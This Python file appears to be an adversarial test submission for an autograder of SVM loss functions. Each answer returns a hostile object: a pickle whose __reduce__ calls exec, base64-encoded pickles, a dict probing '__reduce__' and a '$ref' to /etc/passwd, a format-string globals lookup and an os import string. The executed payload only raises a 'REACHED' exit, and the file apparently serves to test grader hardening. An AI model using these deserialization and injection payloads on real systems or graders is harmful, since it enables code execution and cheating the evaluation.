"""Answers with objects that would run code in the grader, if it unpickled or evaluated them."""
# base: release
# earns: nothing

# %% first
import base64
import pickle

import numpy as np

CODE = "raise SystemExit(('reach' + 'ed').upper())"


class Trap:
    def __reduce__(self):
        return exec, (CODE,)


pickled = pickle.dumps(Trap())


# %% instead of L_i
def L_i(*args):
    return Trap()


# %% instead of L_i_vectorized
def L_i_vectorized(*args):
    return base64.b64encode(pickled).decode()


# %% instead of svm_loss
def svm_loss(*args):
    return np.array([Trap(), pickled], dtype=object)


# %% instead of squared_hinge_loss
def squared_hinge_loss(*args):
    return {"__reduce__": CODE, "py/reduce": [CODE], "$ref": "file:///etc/passwd", Trap: [lambda: 1, pickled]}


# %% instead of svm_answers
jiggle_changes_loss = Trap()
smallest_loss = largest_loss = pickled
loss_at_zero_scores = "{0.__class__.__init__.__globals__}"
added_by_correct_class = "__import__('os').getpid()"
mean_instead_of_sum = squared_is_a_different_loss = Trap
